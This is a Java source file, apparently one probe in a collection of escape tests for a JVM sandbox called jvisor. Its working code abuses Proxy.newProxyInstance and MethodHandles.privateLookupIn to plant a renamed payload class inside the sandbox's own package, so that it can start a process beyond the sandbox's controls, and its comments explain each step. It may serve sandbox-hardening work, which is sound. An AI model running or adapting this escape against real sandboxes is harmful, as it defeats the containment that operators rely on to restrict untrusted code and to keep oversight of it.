package escape.hypervisor;

import java.io.InputStream;
import java.lang.invoke.MethodHandles;
import java.lang.reflect.Proxy;
import java.nio.charset.StandardCharsets;
import java.util.function.Function;

/**
 * Reaches the JVM's application class loader, which holds jvisor (the platform loader hands the
 * JDK's tool modules, javac's among them, to it), has the JDK define a proxy of a package-private
 * interface of jvisor's in jvisor's own package, takes a private lookup in that proxy, and defines
 * a class of its own there: a class of the application loader, which the sandbox leaves as it is,
 * and which reads the JDK's lookup of full power to start a process (the payload of
 * {@code class-module-layer-loader}, moved into jvisor's package). Without jvisor nothing happens.
 *
 * <p>Source: JDK API, {@code Proxy.newProxyInstance} (a proxy of a non-public interface is defined
 * in the interface's package) and {@code MethodHandles.privateLookupIn},
 * https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/lang/reflect/Proxy.html
 */
public final class ProxyPrivateLookup {

    private static final String PAYLOAD = "escape/classes/layered/Payload";
    /** The payload's name in jvisor's package: as long as its own, so that its class file is patched in place. */
    private static final String MOVED = "io/jvisor/sandbox/PayloadOfEsc";

    private ProxyPrivateLookup() {
    }

    public static void main(String[] args) {
        try {
            ClassLoader application = Class.forName("com.sun.tools.javac.Main").getClassLoader();
            Class<?> hidden = Class.forName("io.jvisor.sandbox.GuestSignals$Ending", false, application);
            Class<?> proxy = Proxy.newProxyInstance(application, new Class<?>[] {hidden}, (p, m, a) -> null).getClass();
            MethodHandles.Lookup lookup = MethodHandles.privateLookupIn(proxy, MethodHandles.lookup());
            byte[] payload;
            try (InputStream in = ProxyPrivateLookup.class.getResourceAsStream("/" + PAYLOAD + ".class")) {
                payload = in.readAllBytes();
            }
            String classFile = new String(payload, StandardCharsets.ISO_8859_1).replace(PAYLOAD, MOVED);
            @SuppressWarnings("unchecked")
            Function<String, String> run = (Function<String, String>) lookup.defineClass(classFile.getBytes(StandardCharsets.ISO_8859_1))
                    .getConstructor().newInstance();
            System.out.println("hypervisor-proxy-private-lookup: " + run.apply(args[0]));
        } catch (ClassNotFoundException e) {
            System.out.println("hypervisor-proxy-private-lookup: no jvisor here (" + e.getMessage() + ")");
        } catch (Throwable t) {
            System.out.println("hypervisor-proxy-private-lookup: " + t);
        }
    }
}
